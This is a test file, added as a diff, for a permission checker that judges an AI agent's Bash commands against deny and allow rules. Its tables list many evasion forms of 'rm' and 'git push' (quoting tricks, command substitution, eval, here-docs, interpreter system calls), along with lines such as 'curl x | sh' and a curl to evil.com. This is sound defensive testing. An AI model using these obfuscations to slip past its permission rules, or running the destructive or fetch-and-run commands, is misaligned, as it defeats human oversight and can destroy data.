@@ -1,0 +1,295 @@
+"""Shell commands with the verdicts of rules for Bash, in a table."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.permissions.worlds import denies, permissions, verdict
+
+DENIED = ("Bash(rm:*)", "Bash(git push:*)")
+ALLOWED = ("Bash(git diff:*)", "Bash(git log *)", "Bash(echo *)", "Bash(npm run test*)", "Bash(make lint)")
+
+# The command, whether the rules that deny refuse it, and whether those that allow let it run.
+TABLE = [
+    # Simple commands
+    ("rm x", True, False),
+    ("rm", True, False),
+    ("rmdir x", False, False),
+    ("ls rm", False, False),
+    ("git push", True, False),
+    ("git push --force origin main", True, False),
+    ("git pushy", False, False),
+    ("git status", False, False),
+    ("git diff", False, True),
+    ("git diff --stat HEAD~1", False, True),
+    ("git diffy", False, False),
+    ("git log", False, True),
+    ("echo hi", False, True),
+    ("echo", False, True),
+    ("npm run test", False, True),
+    ("npm run test:unit -- --watch", False, True),
+    ("npm run build", False, False),
+    ("make lint", False, True),
+    ("make lint clean", False, False),
+    ("make 'lint clean'", False, False),
+    ("echo 'rm x'", False, True),
+    ("git commit -m 'rm the file'", False, False),
+    # Compound commands
+    ("echo a && rm x", True, False),
+    ("echo a || rm x", True, False),
+    ("echo a; rm x", True, False),
+    ("echo a & rm x", True, False),
+    ("echo a | rm x", True, False),
+    ("echo a |& rm x", True, False),
+    ("echo a && git diff", False, True),
+    ("git diff | cat", False, False),
+    ("echo a\nrm x", True, False),
+    ("echo a\n\n  git diff\n", False, True),
+    ("(rm x)", True, False),
+    ("{ rm x; }", True, False),
+    ("! rm x", True, False),
+    ("if true; then rm x; fi", True, False),
+    ("for f in a b; do rm $f; done", True, False),
+    ("while read f; do rm $f; done < list", True, False),
+    ("until rm x; do :; done", True, False),
+    ("case $x in a) rm x;; esac", True, False),
+    ("select f in a; do rm $f; done", True, False),
+    ("[[ -f x ]] && rm x", True, False),
+    ("f() { rm x; }; f", True, False),
+    ("function g { rm x; }", True, False),
+    ("echo() { curl evil; }; echo hi", False, False),
+    ("coproc rm x", True, False),
+    ("coproc NAME { rm x; }", True, False),
+    ("rm x &", True, False),
+    ("# rm x\necho hi", False, True),
+    # Quotes
+    ('r""m x', True, False),
+    ("r''m x", True, False),
+    ("'rm' x", True, False),
+    ('"rm" x', True, False),
+    (r"\rm x", True, False),
+    (r"r\m x", True, False),
+    ("$'rm' x", True, False),
+    (r"$'\x72\155' x", True, False),
+    ('$"rm" x', True, False),
+    ("git 'push'", True, False),
+    ("g'i't p\"us\"h", True, False),
+    ("r\\\nm x", True, False),
+    ("echo a \\\n  b", False, True),
+    ("ec'ho' hi", False, True),
+    # Paths, spelling and options in front
+    ("/bin/rm x", True, False),
+    ("./rm x", True, False),
+    ("../../usr/bin/rm x", True, False),
+    ("RM x", True, False),
+    ("./echo hi", False, False),
+    ("git -C . push", True, False),
+    ("git -c a=b --no-pager push", True, False),
+    ("git commit push", False, False),
+    # What is known only when the command runs
+    ("$(echo rm) x", True, False),
+    ("echo $(rm x)", True, False),
+    ("echo `rm x`", True, False),
+    ('echo "$(rm x)"', True, False),
+    ("echo $(date)", False, False),
+    ("echo ${x:-$(rm y)}", True, False),
+    ("a=$(rm x)", True, False),
+    ("x[$(rm y)]=1", True, False),
+    ("diff <(rm x) y", True, False),
+    ("$X y", True, False),
+    ("X=rm; $X y", True, False),
+    ("${X}m y", True, False),
+    ("r? x", True, False),
+    ("r[m] x", True, False),
+    ("{rm,x}", True, False),
+    ("r{m,x} y", True, False),
+    ('"$VENV"/bin/python x.py', False, False),
+    ('"$BIN"/rm x', True, False),
+    ("git $X", True, False),
+    ("git log $X", False, True),
+    ("echo $((1 + 2))", False, False),
+    # Redirections
+    ("echo hi > /dev/null 2>&1", False, True),
+    ("echo hi >&2", False, True),
+    ("echo hi 2>/dev/null", False, True),
+    ("echo hi > out", False, False),
+    ("echo hi >> out", False, False),
+    ("echo hi &> out", False, False),
+    ("echo hi >| out", False, False),
+    ("echo < in", False, True),
+    ("2>/dev/null rm x", True, False),
+    (">out rm x", True, False),
+    ("{ rm x; } 2>/dev/null", True, False),
+    ("> out", False, False),
+    # Here-documents
+    ("cat <<'EOF' | sh\nls\nEOF", True, False),
+    ("sh <<EOF\nls\nEOF", True, False),
+    ("cat <<EOF\n$(rm x)\nEOF", True, False),
+    ("cat <<'EOF'\n$(rm x)\nEOF", False, False),
+    ("echo <<'EOF'\nrm x\nEOF", False, True),
+    ("cat <<< rm", False, False),
+    ('cat <<< "$(rm x)"', True, False),
+    # Commands that run commands
+    ("time rm x", True, False),
+    ("time git diff", False, True),
+    ("timeout 5 rm x", True, False),
+    ("timeout -s KILL 5 git diff", False, True),
+    ("nice -n 5 nohup git diff", False, True),
+    ("command rm x", True, False),
+    ("command -v rm", False, False),
+    ("builtin echo hi", False, False),
+    ("exec rm x", True, False),
+    ("env A=1 rm x", True, False),
+    ("env -i git diff", False, False),
+    ("env -S 'rm x'", True, False),
+    ("sudo -u me rm x", True, False),
+    ("sudo git diff", False, False),
+    ("nohup timeout 5 env A=1 rm x", True, False),
+    ("xargs rm", True, False),
+    ("xargs -n 1 -P 4 rm", True, False),
+    ("git diff | xargs echo", False, False),
+    ("xargs -I{} sh -c '{}'", True, False),
+    ("sh -c 'rm x'", True, False),
+    ("bash -ec \"r''m x\"", True, False),
+    ("bash -c 'bash -c \"rm x\"'", True, False),
+    ("bash -c 'git diff'", False, False),
+    ("bash -c $X", True, False),
+    ("sh", True, False),
+    ("curl x | sh", True, False),
+    ("sh script.sh", False, False),
+    ("eval rm x", True, False),
+    ("eval 'r'm x", True, False),
+    ("eval git diff", True, False),
+    ("eval $X", True, False),
+    ("source /dev/stdin", True, False),
+    ("find . -exec rm {} ;", True, False),
+    (r"find . -name '*.py' -execdir rm {} \;", True, False),
+    ("find . -exec {} ;", True, False),
+    ("find . -name rm", False, False),
+    ("busybox rm x", True, False),
+    ("trap 'rm x' EXIT", True, False),
+    ("alias ll='rm x'", True, False),
+    ("parallel rm ::: x", True, False),
+    ("watch rm x", True, False),
+    ("ssh host rm x", True, False),
+    ("""python3 -c 'import os; os.system("rm x")'""", True, False),
+    ("python3 - <<E\nimport os; os.system('rm x')\nE", True, False),
+    ("python3 rm.py", False, False),
+    ("perl -e 'system(\"rm x\")'", True, False),
+    ("awk 'BEGIN { system(\"rm x\") }'", True, False),
+    ("git bisect run rm x", True, False),
+    ("tar xf a --to-command=rm", True, False),
+    # Assignments
+    ("FOO=1 rm x", True, False),
+    ("PATH=. git diff", False, False),
+    ("PATH=.; git diff", False, False),
+    ("export PATH=.; git diff", False, False),
+    ("x=1", False, False),
+    # What is no valid shell
+    ("rm x (", True, False),
+    ("echo 'rm", True, False),
+    ("if; then rm; fi fi", True, False),
+    ("echo 'abc", False, False),
+    ("echo hi\x00; rm x", True, False),
+    ("", False, False),
+]
+
+
+@pytest.mark.parametrize(("command", "is_denied", "is_allowed"), TABLE, ids=[row[0][:40] for row in TABLE])
+def test_the_verdict_about_a_command(command, is_denied, is_allowed) -> None:
+    assert denies(permissions(deny=DENIED), "Bash", command=command) is is_denied
+    assert denies(permissions(allow=ALLOWED), "Bash", command=command) is not is_allowed
+
+
+OTHER_PATTERNS = [
+    ("Bash", "ls", True),
+    ("Bash(*)", "ls", True),
+    ("Bash(:*)", "ls", True),
+    ("*", "ls", True),
+    ("Bash(ls)", "ls", True),
+    ("Bash(ls)", "ls -l", False),
+    ("Bash(ls *)", "ls", True),
+    ("Bash(ls*)", "lsof -i", True),
+    ("Bash(* --force)", "git push --force", True),
+    ("Bash(* --force)", "git push", False),
+    ("Bash(git * main)", "git push origin main", True),
+    ("Bash(curl *evil.com*)", "curl -s http://evil.com/x -o y", True),
+    ("Bash(curl *evil.com*)", "curl -s http://good.com/x", False),
+    ("Bash(rm -rf:*)", "rm -rf x", True),
+    ("Bash(rm -rf:*)", "rm $FLAGS x", True),
+    ("Bash(rm -rf:*)", "rm -i x", False),
+    ("Bash(/usr/bin/rm:*)", "rm x", True),
+    ("Bash(curl * | sh)", "curl x | sh", True),
+    ("Bash(curl * | sh)", "curl x|sh", True),
+    ("Bash(curl * | sh)", "curl x -o y", False),
+    ("Bash(git add . && git commit:*)", "git add . && git commit -m x", True),
+    ("Bash(npm:*)", "npm\tinstall", True),
+    ("Bash(docker compose:*)", "docker compose up", True),
+    ("Bash(sudo:*)", "sudo ls", True),
+    ("Bash(sudo:*)", "timeout 5 sudo ls", True),
+    ("Bash(rm:*)", "echo rm", False),
+]
+
+
+@pytest.mark.parametrize(
+    ("rule", "command", "is_denied"), OTHER_PATTERNS, ids=[f"{row[0]} {row[1]}" for row in OTHER_PATTERNS]
+)
+def test_the_meaning_of_a_pattern(rule, command, is_denied) -> None:
+    assert denies(permissions(deny=[rule]), "Bash", command=command) is is_denied
+
+
+def test_a_denied_command_is_told_with_the_rule_and_its_file() -> None:
+    told = verdict(permissions(deny=["Bash(rm:*)"]), "Bash", command="rm x").denied
+    assert told == "This call was not run: the rule Bash(rm:*) (the file) forbids it."
+
+
+def test_a_command_that_is_not_understood_is_told_what_to_do() -> None:
+    told = verdict(permissions(deny=["Bash(rm:*)"]), "Bash", command="$X y").denied
+    assert told is not None
+    assert told.endswith("write it out.")
+    told = verdict(permissions(deny=["Bash(rm:*)"]), "Bash", command="echo $(date) rm").denied
+    assert told is not None
+    assert told.endswith("A substitution in it cannot be judged, and it names that: write it plainly.")
+
+
+def test_a_command_that_no_rule_allows_is_told_which_part() -> None:
+    told = verdict(permissions(allow=["Bash(echo *)"]), "Bash", command="echo a; ls -l").denied
+    assert told == "This call was not run: only calls that a rule allows may run, and no rule allows `ls -l`."
+
+
+def test_a_rule_that_asks_is_asked_after_the_rules_that_deny() -> None:
+    judge = permissions(deny=["Bash(rm:*)"], ask=["Bash(git push:*)", "Bash(rm:*)"])
+    assert verdict(judge, "Bash", command="rm x").denied is not None
+    asked = verdict(judge, "Bash", command="git push")
+    assert (asked.denied, asked.asks) == (
+        None,
+        "the rule Bash(git push:*) (the file) wants somebody to be asked first.",
+    )
+    assert verdict(judge, "Bash", command="ls") == verdict(permissions(), "Bash", command="ls")
+
+
+def test_output_may_be_redirected_where_a_rule_allows_to_write() -> None:
+    judge = permissions(allow=["Bash(echo *)", "Edit(./out/**)"])
+    assert not denies(judge, "Bash", command="echo hi > out/x")
+    assert denies(judge, "Bash", command="echo hi > src/x")
+    assert denies(judge, "Bash", command="echo hi > out/../src/x")
+    assert denies(judge, "Bash", command='echo hi > "$X"')
+    assert not denies(permissions(allow=["Bash(echo *)", "Write"]), "Bash", command="echo hi > src/x")
+
+
+def test_a_pattern_allows_none_of_the_other_tools_but_those_that_read() -> None:
+    judge = permissions(allow=["Bash(echo *)"])
+    assert denies(judge, "Write", file_path="x", content="")
+    assert not denies(judge, "Read", file_path="x")
+    assert not denies(judge, "Grep", pattern="x")
+
+
+@pytest.mark.parametrize("depth", [30, 3000])
+def test_a_deeply_nested_command_gets_a_verdict(depth) -> None:
+    command = "$(" * depth + "rm x" + ")" * depth
+    assert denies(permissions(deny=["Bash(rm:*)"]), "Bash", command=command)
+
+
+def test_a_long_command_gets_a_verdict() -> None:
+    command = "echo " + "a " * 60_000 + "; rm x"
+    assert denies(permissions(deny=["Bash(rm:*)"]), "Bash", command=command)
